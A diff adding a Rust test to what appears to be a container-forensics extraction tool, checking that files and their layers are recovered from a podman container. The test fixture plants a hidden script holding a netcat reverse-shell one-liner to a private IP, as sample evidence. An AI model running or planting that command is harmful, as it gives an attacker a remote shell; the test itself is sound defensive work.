@@ -361,6 +361,24 @@ fn an_unreadable_artifact_elsewhere_in_the_bundle_does_not_fail_the_extraction()
 }
 
 #[test]
+fn a_podman_container_from_containers_storage() {
+    let dir = tempfile::tempdir().unwrap();
+    crate::dataroot_runtimes::build(dir.path());
+    let out = tempfile::tempdir().unwrap();
+    let to = out.path().join("web");
+    let o = ex(s(dir.path()), "web", &["--all", "--to", s(&to)]);
+    assert_eq!(o.status.code(), Some(0), "{}", String::from_utf8_lossy(&o.stdout));
+    assert_eq!(
+        std::fs::read(to.join("rootfs/tmp/.x/agent.sh")).unwrap(),
+        b"#!/bin/sh\nnc 10.0.0.9 4444 -e sh\n"
+    );
+    assert_eq!(std::fs::read(to.join("rootfs/bin/sh")).unwrap(), b"\x7fELF");
+    let m = manifest(&to.join("MANIFEST.json"));
+    assert_eq!(entry(&m, "/tmp/.x/agent.sh")["layer"], 1);
+    assert_eq!(entry(&m, "/bin/sh")["layer"], 0);
+}
+
+#[test]
 fn a_truncated_layer_gives_what_was_read_and_exit_2() {
     let dir = tempfile::tempdir().unwrap();
     let big = Layer::new().file("first", b"first file").file("second", &vec![b'x'; 5000]).build();
